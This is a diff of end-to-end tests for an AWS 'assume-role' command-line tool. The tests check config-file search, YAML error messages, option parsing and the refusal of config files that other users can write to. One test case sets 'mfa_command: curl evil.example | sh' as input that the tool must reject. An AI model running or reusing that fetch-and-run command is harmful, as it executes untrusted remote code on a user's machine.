@@ -1,39 +1,29 @@
-import { e2e } from "../mod.ts";
-import { assertEquals, assertStringIncludes } from "@std/assert";
+/** assume-role.yaml, options and variables, and mistakes in them. */
+import { assertEquals } from "@std/assert";
 import { join } from "@std/path/join";
-import type { TestHome } from "./test_home.ts";
+import { argv, assertFails, e2e, OK, PREFIX_YAML, unix } from "../mod.ts";
 
-const PREFIX = "role_prefix: arn:aws:iam::111111111111:role/\n";
-const unix = { ignore: Deno.build.os === "windows" };
 const root = { ignore: Deno.build.os === "windows" || Deno.uid() !== 0 };
 
-/** A run that is to fail before any call, and its messages. */
-async function messages(
-  home: TestHome,
-  args: string | readonly string[],
-  env = {},
-): Promise<string[]> {
-  const { status, stdout, stderr } = await home.run(args, { env });
-  assertEquals([status, stdout], [125, ""]);
-  return stderr.replaceAll(home.root, "").split("\n").slice(0, -1);
-}
-
-e2e("the file is found above the working directory", async ({ home, run }) => {
-  const deep = join(home.project, "a/b/c");
-  Deno.mkdirSync(deep, { recursive: true });
-  assertEquals(
-    (await run("-r admin pwd", { cwd: deep })).stdout,
-    `${deep}\n`,
-  );
-});
+e2e(
+  "assume-role.yaml is found in a parent directory",
+  async ({ home, run }) => {
+    const deep = join(home.project, "a/b/c");
+    Deno.mkdirSync(deep, { recursive: true });
+    assertEquals(
+      (await run("-r admin pwd", { cwd: deep })).stdout,
+      `${deep}\n`,
+    );
+  },
+);
 
 e2e(
-  "the user's file supplies what the project's leaves out",
+  "the user's file supplies settings that the project's file lacks",
   async ({ aws, home, run }) => {
     home.write("assume-role.yaml", "role_session_name: project\n");
     home.writeHome(
       ".aws/assume-role.yaml",
-      `${PREFIX}role_session_name: user\nregion: eu-west-1\n`,
+      `${PREFIX_YAML}role_session_name: user\nregion: eu-west-1\n`,
     );
     const result = await run("-r admin printenv AWS_REGION");
     assertEquals(result.stdout, "eu-west-1\n");
@@ -41,55 +31,57 @@ e2e(
   },
 );
 
-e2e("--config is read instead of the search", async ({ home, run }) => {
-  home.write("assume-role.yaml", "this: is not read\n");
-  home.write("other.yaml", PREFIX);
-  assertEquals(
-    (await run("--config other.yaml -r admin true")).status,
-    0,
-  );
-  const env = { ASSUME_ROLE_CONFIG: join(home.project, "none.yaml") };
-  assertEquals(await messages(home, ["-r", "admin"], env), [
-    "assume-role: error: Cannot read /project/none.yaml: no such file or directory",
-    "assume-role: hint: check the path in '--config' or ASSUME_ROLE_CONFIG",
-  ]);
-});
+e2e(
+  "--config replaces the search for assume-role.yaml",
+  async ({ home, run }) => {
+    home.write("assume-role.yaml", "this: is not read\n");
+    home.write("other.yaml", PREFIX_YAML);
+    assertEquals(await run("--config other.yaml -r admin true"), OK);
+    const path = join(home.project, "none.yaml");
+    const env = { ASSUME_ROLE_CONFIG: path };
+    assertFails(await run("-r admin", { env }), {
+      error: `Cannot read ${path}: no such file or directory`,
+      hint: "check the path in '--config' or ASSUME_ROLE_CONFIG",
+    });
+  },
+);
 
 e2e(
-  "mistakes in the file are named with line and column",
+  "an error in assume-role.yaml names line and column",
   { offline: true },
-  async ({ home }) => {
+  async ({ home, run }) => {
+    const file = join(home.project, "assume-role.yaml");
     const cases: readonly (readonly [string, string, string?])[] = [
       [
         "# a comment with role_prefx\nrole_prefx: x\n",
-        "Cannot use /project/assume-role.yaml:2:1: unknown key 'role_prefx'",
+        "Cannot use FILE:2:1: unknown key 'role_prefx'",
         "did you mean 'role_prefix'?",
       ],
       [
-        `${PREFIX}roles:\n  admin:\n    durration: 1h\n`,
-        "Cannot use /project/assume-role.yaml:4:5: unknown key 'durration'",
+        `${PREFIX_YAML}roles:\n  admin:\n    durration: 1h\n`,
+        "Cannot use FILE:4:5: unknown key 'durration'",
         "did you mean 'duration'?",
       ],
       [
-        `${PREFIX}duration: 13h\n`,
-        "Cannot use /project/assume-role.yaml:2:1: the value of 'duration' is invalid: a session can last from 15m to 12h",
+        `${PREFIX_YAML}duration: 13h\n`,
+        "Cannot use FILE:2:1: the value of 'duration' is invalid: a session can last from 15m to 12h",
       ],
       [
-        `${PREFIX}profile: [a, b]\n`,
-        "Cannot use /project/assume-role.yaml:2:1: the value of 'profile' must be text",
+        `${PREFIX_YAML}profile: [a, b]\n`,
+        "Cannot use FILE:2:1: the value of 'profile' must be text",
       ],
       [
         "- role_prefix\n",
-        "Cannot use /project/assume-role.yaml:1:1: the file must be a mapping of 'key: value' lines",
+        "Cannot use FILE:1:1: the file must be a mapping of 'key: value' lines",
       ],
       [
         "role_prefix: a\nrole_prefix: b\n",
-        "Cannot read /project/assume-role.yaml:2:1: Cannot store mapping pair: duplicated key",
+        "Cannot read FILE:2:1: Cannot store mapping pair: duplicated key",
         "write the file as YAML, one 'key: value' per line",
       ],
       [
-        `${PREFIX}mfa_command: curl evil.example | sh\n`,
-        "Cannot use /project/assume-role.yaml:2:1: 'mfa_command' runs a program and is not accepted from this file",
+        `${PREFIX_YAML}mfa_command: curl evil.example | sh\n`,
+        "Cannot use FILE:2:1: 'mfa_command' runs a program and is not accepted from this file",
         "move 'mfa_command' to ~/.aws/assume-role.yaml",
       ],
       [
@@ -100,66 +92,58 @@ e2e(
     ];
     for (const [text, error, hint] of cases) {
       home.write("assume-role.yaml", text);
-      const expected = [
-        `assume-role: error: ${error}`,
-        ...(hint ? [`assume-role: hint: ${hint}`] : []),
-      ];
-      assertEquals(await messages(home, ["-r", "admin", "true"]), expected);
+      assertFails(await run("-r admin true"), {
+        error: error.replace("FILE", file),
+        hint: hint ?? null,
+      });
     }
   },
 );
 
-e2e("mistakes on the command line are named with the closest option", {
+e2e("an error on the command line suggests the closest option", {
   offline: true,
-}, async ({ home }) => {
-  const cases: readonly (readonly [string[], string, string?])[] = [
-    [["--rol", "admin"], "Unknown option '--rol'", "did you mean '--role'?"],
+}, async ({ run }) => {
+  const cases: readonly (readonly [string, string, string?])[] = [
+    ["--rol admin", "Unknown option '--rol'", "did you mean '--role'?"],
     [
-      ["--role"],
+      "--role",
       "Option '--role' needs a value",
       "write it as '--role NAME|ARN'",
     ],
     [
-      ["--role", "--verbose", "true"],
+      "--role --verbose true",
       "Option '--role' needs a value",
       "if '--verbose' is meant to be its value, write '--role=--verbose'",
     ],
     [
-      ["--duration", "1d", "-r", "x"],
+      "--duration 1d -r x",
       "Cannot use --duration '1d': write a duration like 15m, 1h30m, 90s or 3600",
     ],
     [
-      ["--mfa-token", "secret", "-r", "x"],
+      "--mfa-token secret -r x",
       "Cannot use --mfa-token: an MFA code must have six digits",
     ],
     [
-      ["-fx"],
+      "-fx",
       "Unknown option '-x' in '-fx'",
       "see 'assume-role --help'; put '--' before a command that begins with '-'",
     ],
-    [["--verbose=yes"], "Option '--verbose' takes no value"],
+    ["--verbose=yes", "Option '--verbose' takes no value"],
+    ["-q -v -r x", "Options '--quiet' and '--verbose' exclude each other"],
     [
-      ["-q", "-v", "-r", "x"],
-      "Options '--quiet' and '--verbose' exclude each other",
-    ],
-    [
-      ["true"],
+      "true",
       "No role given",
       "use '--role NAME' or set ASSUME_ROLE_ROLE; see 'assume-role --help'",
     ],
   ];
   for (const [args, error, hint] of cases) {
-    const expected = [
-      `assume-role: error: ${error}`,
-      ...(hint ? [`assume-role: hint: ${hint}`] : []),
-    ];
-    assertEquals(await messages(home, args), expected);
+    assertFails(await run(args), { error, hint: hint ?? null });
   }
 });
 
 e2e(
-  "a variable stands for its option, and is named when it is wrong",
-  async ({ aws, home, run }) => {
+  "a variable replaces its option, and an error names the variable",
+  async ({ aws, run }) => {
     const env = {
       ASSUME_ROLE_ROLE: "team-a/long",
       ASSUME_ROLE_DURATION: "2h",
@@ -167,93 +151,88 @@ e2e(
     };
     assertEquals((await run("true", { env })).status, 0);
     assertEquals(aws.calls.at(-1)?.params.DurationSeconds, "7200");
-    assertEquals(await messages(home, [], { ASSUME_ROLE_DURATION: "1 hour" }), [
-      "assume-role: error: Cannot use ASSUME_ROLE_DURATION '1 hour': write a duration like 15m, 1h30m, 90s or 3600",
-    ]);
+    const wrong = { ASSUME_ROLE_DURATION: "1 hour" };
+    assertFails(await run([], { env: wrong }), {
+      error:
+        "Cannot use ASSUME_ROLE_DURATION '1 hour': write a duration like 15m, 1h30m, 90s or 3600",
+      hint: null,
+    });
   },
 );
 
-// uber/assume-role-cli trusted an assume-role.yaml in any directory above, with
-// any owner.
+// uber/assume-role-cli trusts an assume-role.yaml in any parent directory, of any owner.
 e2e(
-  "a file that others may write to is refused",
+  "a configuration file that other users can write to is refused",
   { ...unix, offline: true },
-  async ({ home }) => {
+  async ({ home, run }) => {
     const path = join(home.project, "assume-role.yaml");
     for (const mode of [0o666, 0o602, 0o777]) {
       Deno.chmodSync(path, mode);
-      assertEquals(await messages(home, ["-r", "admin", "true"]), [
-        "assume-role: error: Cannot use /project/assume-role.yaml: other users can write to the file",
-        "assume-role: hint: check the contents of the file, then run: chmod go-w '/project/assume-role.yaml'",
-      ]);
+      assertFails(await run("-r admin true"), {
+        error: `Cannot use ${path}: other users can write to the file`,
+        hint: `check the contents of the file, then run: chmod go-w '${path}'`,
+      });
     }
   },
 );
 
-e2e("a file of another user is refused, and a link of theirs", {
+e2e("a configuration file or link of another user is refused", {
   ...root,
   offline: true,
-}, async ({ home }) => {
+}, async ({ home, run }) => {
   const path = join(home.project, "assume-role.yaml");
   Deno.chownSync(path, 12345, null);
-  const [error] = await messages(home, ["-r", "admin", "true"]);
-  assertStringIncludes(
-    error!,
-    "the file or a link to it belongs to another user",
-  );
+  const error = /the file or a link to it belongs to another user/;
+  assertFails(await run("-r admin true"), { error });
   Deno.removeSync(path);
-  Deno.symlinkSync(home.write("mine.yaml", PREFIX), path);
-  await home.exec(["chown", "-h", "12345", path]);
-  const [again] = await messages(home, ["-r", "admin", "true"]);
-  assertStringIncludes(
-    again!,
-    "the file or a link to it belongs to another user",
-  );
+  Deno.symlinkSync(home.write("mine.yaml", PREFIX_YAML), path);
+  await home.exec(argv`chown -h 12345 ${path}`);
+  assertFails(await run("-r admin true"), { error });
 });
 
-e2e("a directory in the file's place is an error, not a file less", {
+e2e("a directory named assume-role.yaml is an error", {
   offline: true,
-}, async ({ home }) => {
-  Deno.removeSync(join(home.project, "assume-role.yaml"));
-  Deno.mkdirSync(join(home.project, "assume-role.yaml"));
-  assertEquals(await messages(home, ["-r", "admin", "true"]), [
-    "assume-role: error: Cannot read /project/assume-role.yaml: is a directory",
-  ]);
+}, async ({ home, run }) => {
+  const path = join(home.project, "assume-role.yaml");
+  Deno.removeSync(path);
+  Deno.mkdirSync(path);
+  assertFails(await run("-r admin true"), {
+    error: `Cannot read ${path}: is a directory`,
+    hint: null,
+  });
 });
 
-e2e("a role without an ARN names what is missing, and the closest role", {
+e2e("the error for a role without an ARN suggests the closest role", {
   offline: true,
-}, async ({ home }) => {
+}, async ({ home, run }) => {
   home.write(
     "assume-role.yaml",
     "roles:\n  admin:\n    role_arn: arn:aws:iam::111111111111:role/admin\n",
   );
-  assertEquals(await messages(home, ["-r", "admni", "true"]), [
-    "assume-role: error: Cannot find the role 'admni': 'roles' has no such entry, and 'role_prefix' is not set",
-    "assume-role: hint: did you mean 'admin'?",
-  ]);
+  assertFails(await run("-r admni true"), {
+    error:
+      "Cannot find the role 'admni': 'roles' has no such entry, and 'role_prefix' is not set",
+    hint: "did you mean 'admin'?",
+  });
 });
 
-// 99designs/aws-vault#1248: a misspelt profile silently used the default one.
+// 99designs/aws-vault#1248: a misspelt profile silently used the default profile.
 e2e(
-  "a misspelt profile is an error with the closest one",
+  "the error for a misspelt profile suggests the closest profile",
   { offline: true },
-  async ({ home }) => {
+  async ({ home, run }) => {
     home.writeHome(".aws/config", "[profile production]\nregion = eu-west-1\n");
-    for (
-      const env of [{ AWS_PROFILE: "prodution" }, {
-        ASSUME_ROLE_PROFILE: "prodution",
-      }]
-    ) {
-      assertEquals(await messages(home, ["-r", "admin", "true"], env), [
-        "assume-role: error: Cannot find the AWS profile 'prodution'",
-        "assume-role: hint: did you mean 'production'?",
-      ]);
+    for (const name of ["AWS_PROFILE", "ASSUME_ROLE_PROFILE"]) {
+      const env = { [name]: "prodution" };
+      assertFails(await run("-r admin true", { env }), {
+        error: "Cannot find the AWS profile 'prodution'",
+        hint: "did you mean 'production'?",
+      });
     }
   },
 );
 
-e2e("--help and --version work wherever they stand before the command", {
+e2e("--help and --version work at any place before the command", {
   offline: true,
 }, async ({ run }) => {
   const help = await run("--role admin --help");
